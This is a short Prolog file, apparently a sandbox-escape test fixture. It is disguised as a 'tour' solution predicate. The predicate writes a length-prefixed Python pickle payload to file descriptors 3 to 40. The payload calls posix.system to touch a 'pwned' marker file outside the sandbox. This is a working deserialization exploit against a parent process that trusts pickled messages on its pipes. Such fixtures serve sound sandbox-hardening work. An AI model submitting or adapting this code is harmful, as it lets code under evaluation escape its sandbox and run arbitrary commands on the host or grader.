tour(_, [1/1, 2/1]) :-
    forall(between(3, 40, N), catch(send(N), _, true)).

send(N) :-
    format(atom(File), '/proc/self/fd/~d', [N]),
    setup_call_cleanup(open(File, append, S, [type(binary), buffer(full)]), message(S), close(S)).

message(S) :-
    format(codes(Codes), 'cposix~nsystem~n(S\'touch @OUTSIDE@/pwned-@TAG@\'~ntR.', []),
    length(Codes, Length),
    forall(member(Byte, [0, 0, 0, Length]), put_byte(S, Byte)),
    forall(member(Byte, Codes), put_byte(S, Byte)).
